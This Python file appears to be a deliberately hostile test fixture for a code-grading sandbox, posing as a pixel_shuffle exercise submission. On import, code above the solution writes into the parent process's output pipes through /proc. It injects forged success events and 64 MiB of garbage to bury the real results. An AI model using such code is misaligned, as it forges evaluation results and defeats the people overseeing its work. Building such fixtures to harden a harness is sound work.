"""HOSTILE: reopens the zygote's event pipe through /proc (its own entry, and any other
process in sight that holds the pipe) and floods it: forged endings of
every part, then 64 MiB of garbage that the zygote's real line would be glued to, so that the
real ending and output would be lost (the forged ones read "FORGED") and the parent's memory
would grow."""

import json as _json
import os as _os

_FORGED = b"".join(
    _json.dumps({"event": "exit", "part": part, "returncode": 0, "timed_out": False, "stdout": "FORGED",
                 "stderr": "", "duration_s": 0.0, "limit": "", "tasks": 1}).encode() + b"\n"
    for part in ("cnn", "srnet", "pixel_shuffle")
)  # fmt: skip


def _flood(path: str) -> str:
    try:
        fd = _os.open(path, _os.O_WRONLY)
    except OSError as exc:
        return f"REOPEN REFUSED {path}: {exc.strerror}"
    try:
        _os.write(fd, _FORGED)
        garbage = b"x" * (1 << 20)
        for _ in range(64):  # no newline: the zygote's real line would be glued to it
            _os.write(fd, garbage)
    finally:
        _os.close(fd)
    return f"FLOODED {path}"


def _targets() -> list[str]:
    """The zygote's stdout and stderr, and every descriptor of every other process in sight
    (under bubblewrap that was its init, pid 1, which held the same pipe)."""
    found = [f"/proc/{_os.getppid()}/fd/{stream}" for stream in (1, 2)]
    if _os.getpid() > 1000:  # not in a PID namespace of its own: leave the test machine's processes alone
        return found
    for pid in sorted(_os.listdir("/proc")):
        if pid.isdigit() and int(pid) not in (_os.getpid(), _os.getppid()):
            try:
                found += [f"/proc/{pid}/fd/{fd}" for fd in _os.listdir(f"/proc/{pid}/fd")]
            except OSError:
                found.append(f"/proc/{pid}/fd/1")
    return found


for _target in _targets():
    print(_flood(_target), flush=True)


import torch
from einops import rearrange
from torch import nn


def pixel_shuffle(x: torch.Tensor, upscale_factor: int) -> torch.Tensor:
    # BEGIN SOLUTION
    return rearrange(x, "... (c h2 w2) h w -> ... c (h h2) (w w2)", h2=upscale_factor, w2=upscale_factor)
    # END SOLUTION


class PixelShuffle(nn.Module):
    def __init__(self, upscale_factor: int) -> None:
        super().__init__()
        self.upscale_factor = upscale_factor

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        # BEGIN SOLUTION
        return pixel_shuffle(x, self.upscale_factor)
        # END SOLUTION

    def extra_repr(self) -> str:
        return f"upscale_factor={self.upscale_factor}"
